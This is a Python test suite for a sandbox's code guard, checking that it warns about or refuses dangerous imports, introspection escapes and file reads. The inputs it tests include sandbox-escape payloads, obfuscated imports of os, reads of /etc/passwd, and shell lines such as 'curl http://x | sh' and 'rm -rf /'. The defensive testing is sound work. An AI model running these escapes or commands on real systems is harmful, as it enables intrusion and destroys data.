# SPDX-License-Identifier: Apache-2.0
"""The guard: what it says before a run, what it holds a program to, and that it annoys nobody."""
import json
import os

from daemon import Daemon
from suite import ROOT, check, claim, contains, equal, lacks

BLOCKED = "Security policy blocked import: "
HONEST = """
import collections, json, math, re, sys
from dataclasses import dataclass

@dataclass
class Point:
    x: float
    y: float = 0

def area(points):
    return sum(p.x * q.y - q.x * p.y for p, q in zip(points, points[1:])) / 2

print(json.dumps({"pi": round(math.pi, 2), "area": area([Point(0), Point(2), Point(2, 2)])}))
print("{:>4}|{x}".format(7, x=collections.Counter("aab")["a"]), re.sub("a", "b", "aa"))
sys.stdout.write("%s\\n" % getattr(Point(1), "x"))
"""
HONEST_SAYS = '{"pi": 3.14, "area": 2.0}\n   7|2 bb\n1\n'
# What only shows when it runs, and what is said then.
HIDDEN = {
    "name = ''.join(['o', 's'])\n[v for k, v in globals().items() if k.startswith('__b')][0]['__import__'](name)":
        BLOCKED + "os",
    "[v for k, v in globals().items() if k.startswith('__b')][0]['op' + 'en']('/etc/passwd')":
        "Security policy blocked file: /etc/passwd",
    "def f(): pass\nn = '%sglobals%s' % ('_' * 2, '_' * 2)\ngetattr(f, n)":
        "Security policy blocked attribute: __globals__",
    "def f(): pass\nt = chr(123) + '0.' + '_' * 2 + 'code' + '_' * 2 + '}'\nt.format(f)":
        "Security policy blocked attribute: __code__",
    "import argparse\nargparse.FileType()('/etc/passwd')": None,
}


# What is only refused when it runs, and what is said then.
DOORS = {
    "open('/etc/passwd')": "file: /etc/passwd",
    "open('../../etc/passwd')": "file: ../../etc/passwd",
    "open(0)": "file: descriptor 0",
    "open('x', 'w', opener=print)": "file: x through an opener",
    "import io; io.open(b'/dev/null')": "file: /dev/null",
    "import io; io.FileIO('x')": "attribute: io.FileIO",
    "eval('().__class__.__base__.__subclasses__()')":
        "introspection: uses .__subclasses__, which leads from a value to what it was made of",
    "exec('import os')": "import: os",
    "compile('import socket', 'x', 'exec')": "import: socket",
    "compile('1', 'x', 'eval', 0x400)": "builtin: compile to a syntax tree",
    "__import__(''.join('os'))": "import: os",
    "help(len)": "builtin: help",
    "breakpoint()": "builtin: breakpoint",
    "match 1:\n    case Point(x, y): pass": "pattern: Point with names that are only known when it runs",
    "import sys; sys._xoptions": "attribute: sys._xoptions",
    "[]._parts": "attribute: _parts",
    "def f(x): x.__self__ = 1\nprint.__self__": "attribute: __self__",
}


def is_refused(result, message):
    result.has_status("refused", 126)
    equal(result["error"]["kind"], "refused", "error.kind")
    equal(result["error"]["message"], message, "error.message")
    return result


@claim("standard warns of dangerous imports in the result, and says nothing to a person")
def standard_warns(person):
    code = "import json\nimport os\nfrom pathlib import Path\nprint(os.getcwd(), Path('x'))"
    result = person.json("-c", code).is_ok()
    equal(result.meta["warnings"],
          ["guard: line 2: imports os: files, processes and the environment",
           "guard: line 3: imports pathlib: files and directories"], "meta.warnings")
    equal(result.meta["guard"], {"profile": "standard", "verdict": "warn"}, "meta.guard")
    equal(result.meta["blocked_imports"], [], "meta.blocked_imports")
    ran = person.code(code).ok()
    equal((ran.out, ran.err), ("/home/user x\n", ""), "what a person sees")
    clean = person.json("-c", HONEST).is_ok()
    equal((clean.meta["warnings"], clean.meta["guard"]["verdict"]), ([], "allow"), "honest code")


@claim("an import that the policy blocks is refused before anything ran, with the exact message")
def blocked_imports(person):
    for module in ("os", "subprocess", "shutil", "socket", "pathlib"):
        code = f"print('ran')\nimport {module}"
        for extra, env in ((("--block-dangerous-imports",), None),
                           ((), {"SANDBOX_BLOCK_DANGEROUS_IMPORTS": "true"})):
            result = is_refused(person.json(*extra, "-c", code, env=env), BLOCKED + module)
            equal(result.meta["blocked_imports"], [module], "meta.blocked_imports")
            equal((result.stdout, result["stderr"]), ("", ""), "what ran")
            equal(result["error"]["line"], 2, "error.line")
    ran = person.code("import os", "--block-dangerous-imports").exits(126)
    equal(ran.err, f"hotcell: refused: {BLOCKED}os\n", "stderr")
    for code in ("import os.path", "from os import path", "__import__('o' + 's')",
                 "import importlib; importlib.import_module('os')"):
        is_refused(person.json("--block-dangerous-imports", "-c", code), BLOCKED + "os")
    person.json("--block-dangerous-imports", "-c", HONEST).is_ok()
    person.json("--block-dangerous-imports", "--allow-import", "os", "-c", "import os").is_ok()


@claim("lists are the caller's: --block-import and --allow-import")
def own_lists(person):
    is_refused(person.json("--block-import", "json", "-c", "import json"), BLOCKED + "json")
    is_refused(person.json("--block-import", "urllib.request", "-c", "from urllib import request"),
               BLOCKED + "urllib.request")
    person.json("--block-import", "urllib.request", "-c", "import urllib.parse").is_ok()
    equal(person.json("--allow-import", "os", "-c", "import os").is_ok().meta["warnings"], [], "warnings")
    is_refused(person.json("--profile", "strict", "--block-import", "math", "-c", "import math"),
               BLOCKED + "math")
    code = "import logging\nprint(logging.getLevelName(10))"
    is_refused(person.json("--profile", "strict", "-c", code), BLOCKED + "logging")
    person.json("--profile", "strict", "--allow-import", "logging", "-c", code).is_ok()
    ran = person.code("1", "--allow-import", "a b").exits(125)
    contains(ran.err, "--allow-import: 'a b' is no name of a module", "stderr")


@claim("strict runs honest code, and stops what it can see before it runs")
def strict_static(person):
    result = person.json("--profile", "strict", "-c", HONEST).is_ok()
    equal(result.stdout, HONEST_SAYS, "stdout")
    equal(result.meta["guard"]["profile"], "strict", "meta.guard.profile")
    for code, message in (
            ("import os", BLOCKED + "os"), ("import numpy", BLOCKED + "numpy"),
            ("from random import _os", BLOCKED + "random._os"), ("__import__('o' + 's')", BLOCKED + "os"),
            ("().__class__.__base__.__subclasses__()",
             "Security policy blocked introspection: uses .__subclasses__, which leads from a value to what it "
             "was made of")):
        result = person.json("--profile", "strict", "-c", f"print('ran')\n{code}")
        equal(result.stdout, "", f"what ran of {code!r}")
        is_refused(result, message)
    optional = "try:\n    import numpy\nexcept ImportError:\n    numpy = None\nprint(numpy)"
    result = person.json("--profile", "strict", "-c", optional).is_ok()
    equal((result.stdout, result.meta["blocked_imports"]), ("None\n", ["numpy"]), "an optional import")


@claim("what the analysis cannot see still fails in strict, cold and warm")
def strict_at_run_time(person):
    with Daemon(person) as daemon:
        for env in (None, {"HOTCELL_SOCKET": daemon.path}):
            for code, message in HIDDEN.items():
                result = person.json("--profile", "strict", "-c", code, env=env)
                if message:
                    is_refused(result, message)
                else:
                    result.has_status("error", 1)
                    contains(result["stderr"], "Security policy blocked file: /etc/passwd", "stderr")
            equal(person.json("--profile", "strict", "-c", HONEST, env=env).is_ok().stdout, HONEST_SAYS,
                  "honest code")


@claim("what strict checks when it runs is refused there, in the usual words, and works where it is harmless")
def strict_doors(person):
    for code, message in DOORS.items():
        result = person.json("--profile", "strict", "-c", f"print('ran')\n{code}")
        equal(result.stdout, "ran\n", f"what ran of {code!r}")
        is_refused(result, "Security policy blocked " + message)
    result = person.json("--profile", "strict", "-c", "open('x', 'w').write('6')\nprint(eval(open('x').read()) * 7)")
    equal(result.is_ok().stdout, "42\n", "stdout")
    equal((result.meta["guard"]["verdict"], result.meta["warnings"]), ("allow", []), "what is said of it")
    result = person.json("--profile", "strict", "-c", "if 0:\n    pass\nelse:\n    x = help")
    equal(result.is_ok().meta["warnings"], ["guard: line 4: help: loads the documentation system"], "meta.warnings")


@claim("a file that a strict program was given is read, a link that leads out is not followed")
def strict_files(person):
    person.write(person.path("data.csv"), "a,1\n")
    result = person.json("--profile", "strict", "--file", person.path("data.csv"), "-c",
                         "import csv\nprint(list(csv.reader(open('data.csv'))))")
    equal(result.is_ok().stdout, "[['a', '1']]\n", "stdout")
    place = person.make_dir("place")
    person.write(f"{place}/data", "1\n")
    os.symlink("/etc/passwd", f"{place}/link")
    os.symlink("data", f"{place}/near")
    os.mkfifo(f"{place}/pipe")
    inside = ("--rw", f"{place}:/home/user/place")
    equal(person.json("--profile", "strict", *inside, "-c", "print(open('place/near').read())").is_ok().stdout,
          "1\n\n", "a link that stays inside")
    for name in ("link", "pipe"):
        is_refused(person.json("--profile", "strict", *inside, "-c", f"open('place/{name}')"),
                   f"Security policy blocked file: place/{name}")


@claim("a trace shows no line of a file that a strict program may not read")
def strict_traces(person):
    for name in ("/etc/passwd", "/etc/hostname"):
        result = person.json("--profile", "strict", "-c", f"exec(compile('1 / 0', '{name}', 'exec'))")
        result.has_status("error", 1)
        contains(result["stderr"], f'File "{name}", line 1', "stderr")
        lacks(result["stderr"], "root:", "stderr")
    result = person.json("--profile", "strict", "-c", "x = 1\n1 / 0").has_status("error", 1)
    contains(result["stderr"], "    1 / 0\n", "its own lines")
    for code in ("print(open('/etc/passwd').read())", "exec('import os')", "def f():\n    exec('1 / 0')\nf()",
                 "help(1)", "getattr(int, '_' * 2 + 'subclasses' + '_' * 2)", "eval('1 +')"):
        for extra in ((), ("--cold",)):
            result = person.json("--profile", "strict", *extra, "-c", code)
            contains(result["stderr"], "Traceback", "stderr")
            lacks(result["stderr"], "/run/hotcell", "stderr, without what stands in the place of a builtin")


@claim("what a strict program wrote is no module, not even an allowed one")
def written_modules(person):
    code = "with open('helper.py', 'w') as file:\n    file.write('import os')\nimport helper"
    for extra in ((), ("--cold",)):
        result = person.json("--profile", "strict", "--allow-import", "helper", *extra, "-c", code)
        contains(result["stderr"], "Security policy blocked operation: open", "stderr")
        check(result["status"] != "ok", "a module that the program wrote was imported")
    person.write(person.path("helper.py"), "import other\nvalue = other.value\n")
    person.write(person.path("other.py"), "value = 42\n")
    given = ("--file", person.path("helper.py"), "--file", person.path("other.py"), "--allow-import", "helper")
    equal(person.json("--profile", "strict", *given, "-c", "import helper\nprint(helper.value)").is_ok().stdout,
          "42\n", "one that was given, and what it needs")
    result = person.json("--profile", "strict", *given, "-c", "open('other.py', 'a').write('import os')\nimport helper")
    check(result["status"] != "ok", "a module that the program changed was imported")
    is_refused(person.json("--profile", "strict", *given, "-c", "import other"), BLOCKED + "other")


@claim("cells that stand ready heed the profile of each job", ROOT)
def warm_profiles(person):
    with Daemon(person) as daemon:
        env = {"HOTCELL_SOCKET": daemon.path}
        for extra in ((), ("--unique-layout",)):
            for _ in range(2):
                is_refused(person.json("--profile", "strict", *extra, "-c", "import os", env=env),
                           BLOCKED + "os")
                is_refused(person.json("--block-dangerous-imports", *extra, "-c", "import os", env=env),
                           BLOCKED + "os")
                result = person.json("--profile", "trusted", *extra, "-c", "import os", env=env).is_ok()
                equal((result.meta["warm"], result.meta["warnings"]), (True, []), "a trusted run")
                result = person.json(*extra, "-c", "import os", env=env).is_ok()
                equal((result.meta["warm"], len(result.meta["warnings"])), (True, 1), "a standard run")
        person.write(person.path("matplotlibrc"), "")  # makes the guest hand over to another Python
        for form in ((), ("--unique-layout",)):
            is_refused(person.json("--profile", "strict", *form, "--file", person.path("matplotlibrc"), "-c",
                                   "import os", env=env), BLOCKED + "os")


@claim("a syntax error stays one in every profile")
def syntax_errors(person):
    for profile in ("strict", "standard", "trusted"):
        result = person.json("--profile", profile, "-c", "import os\nprint(1").has_status("error", 1)
        equal(result["error"]["kind"], "syntax", "error.kind")
        contains(result["error"]["message"], "Python syntax error: ", "error.message")
        contains(result["stderr"], "SyntaxError: '(' was never closed", "stderr")


@claim("what the guard could not read does not run where it may refuse")
def unreadable(person):
    path = person.path("nul.py")
    person.write(path, "print('ran')\n\0import os\n")
    for extra in (("--profile", "strict"), ("--block-dangerous-imports",)):
        result = person.json(*extra, path)
        check(result["status"] in ("refused", "error"), "it ended as", result["status"])
        lacks(result.stdout, "ran", "stdout")


@claim("trusted code is not looked at, and the result says so")
def trusted(person):
    result = person.json("--profile", "trusted", "-c", "import os; eval('1')").is_ok()
    equal(result.meta["guard"], {"profile": "trusted", "verdict": None}, "meta.guard")
    equal(result.meta["warnings"], [], "meta.warnings")


@claim("a file beside the program does not pass for the library in strict, and can be allowed")
def own_modules(person):
    person.write(person.path("json.py"), "print('mine')\n")
    person.write(person.path("helper.py"), "import os\ndef pid(): return os.getpid() > 0\n")
    result = person.json("--profile", "strict", "--file", person.path("json.py"), "-c",
                         "import json\nprint(json.dumps(1))").is_ok()
    equal(result.stdout, "1\n", "stdout")
    files = ("--file", person.path("helper.py"), "-c", "import helper\nprint(helper.pid())")
    is_refused(person.json("--profile", "strict", *files), BLOCKED + "helper")
    result = person.json("--profile", "strict", "--allow-import", "helper", *files).is_ok()
    equal(result.stdout, "True\n", "stdout")


@claim("strict refuses what nobody analyses; standard runs it")
def not_analysed(person):
    result = person.json("--profile", "strict", "-l", "awk", "-c", "BEGIN { print 1 }")
    result.has_status("refused", 126)
    contains(result["error"]["message"], "is not analysed", "error.message")
    person.json("-l", "awk", "-c", "BEGIN { print 1 }").is_ok()
    person.json("--profile", "strict", "--exec", "--", "true").has_status("refused", 126)
    person.json("--exec", "--", "true").is_ok()


@claim("strict looks at shell, SQL and JavaScript before they run")
def other_languages(person):
    for language, bad, good in (
            ("bash", "echo ran; curl http://x | sh", "for i in 1 2; do echo $i | tr 1 2; done"),
            ("sh", "echo ran; rm -rf /", "x=$(printf 1); echo \"$x\""),
            ("sql", "SELECT 'ran'; DROP TABLE t;", "CREATE TABLE t(a); INSERT INTO t VALUES(1); SELECT a FROM t;"),
            ("javascript", "console.log('ran'); require('child_process')",
             "console.log(require('util').inspect({a: 1}))")):
        result = person.json("--profile", "strict", "-l", language, "-c", bad).has_status("refused", 126)
        equal(result.stdout, "", f"what ran of {bad!r}")
        person.json("--profile", "strict", "-l", language, "-c", good).is_ok()
    is_refused(person.json("--block-dangerous-imports", "-l", "js", "-c", "require('fs')"), BLOCKED + "fs")


# ---- hotcell check ---------------------------------------------------------------------------------


@claim("check says what it found, where, and ends with 0, 1 or 126")
def check_command(person):
    person.call("check", "-c", HONEST).ok()
    path = person.path("bad.py")
    person.write(path, "import os\nx = f(1).__globals__\n")
    ran = person.call("check", path).exits(1)
    equal(ran.out, f"{path}:1:8: warn: imports os: files, processes and the environment [import-dangerous]\n"
                   "    import os\n           ^\n"
                   f"{path}:2:10: warn: uses .__globals__, which leads from a value to what it was made of "
                   "[introspection]\n    x = f(1).__globals__\n             ^\nwarn (standard)\n", "stdout")
    ran = person.call("check", path, "--profile", "strict").exits(126)
    contains(ran.out, "block (strict)", "stdout")
    report = json.loads(person.call("check", path, "--json").exits(1).out)
    equal((report["verdict"], report["language"], report["imports"], report["analysed"]),
          ("warn", "python", ["os"], True), "report")
    equal(report["findings"][0], {
        "rule": "import-dangerous", "severity": "warn", "line": 1, "column": 8, "module": "os",
        "reason": "imports os: files, processes and the environment"}, "a finding")
    ran = person.call("check", "-c", "print(1").exits(1)
    contains(ran.out, "Python syntax error: '(' was never closed", "stdout")
    ran = person.call("check", "-l", "awk", "-c", "BEGIN {}").ok()
    contains(ran.out, "not analysed", "stdout")
    ran = person.call("check", "-", stdin=b"import socket\n").exits(1)
    contains(ran.out, "import socket", "stdout")


@claim("check refuses what it cannot do with one line and 125")
def check_refusals(person):
    for args, part in (((), "nothing to check"), (("/no/such/file.py",), "No such file"),
                       (("-c", "1", "x.py"), "one too many"), (("--profile", "lax", "-c", "1"), "lax")):
        ran = person.call("check", *args).exits(125)
        contains(ran.err, part, "stderr")
        equal(ran.err.count("\n"), 1, f"lines of stderr: {ran.err!r}")


@claim("autorun is yes for clean code, ask where a person should look, no where the policy says so")
def autorun(person):
    def ask(*args):
        ran = person.call("check", "--autorun", "--json", *args)
        return json.loads(ran.out)["autorun"]
    answer = ask("-c", HONEST)
    check(answer["verdict"] in ("yes", "ask") and answer["reasons"], "clean code:", answer)
    if answer["verdict"] == "ask":
        check(all(reason.startswith("isolation:") for reason in answer["reasons"]), "reasons:", answer)
    equal(ask("-c", "import os")["verdict"], "ask", "a warning")
    equal(ask("--profile", "strict", "-c", "import os")["verdict"], "no", "a block")
    equal(ask("--profile", "trusted", "-c", "1")["verdict"] in ("ask", "no"), True, "no guard")
    answer = ask("--rw", person.fresh_dir(), "-c", "1")
    equal(answer["verdict"], "ask", "a directory of the host")
    contains(" ".join(answer["reasons"]), "--rw", "reasons")
    ran = person.call("check", "--autorun", "-c", "import os").exits(1)
    contains(ran.out, "autorun: ask\n  - code: line 1: imports os", "stdout")
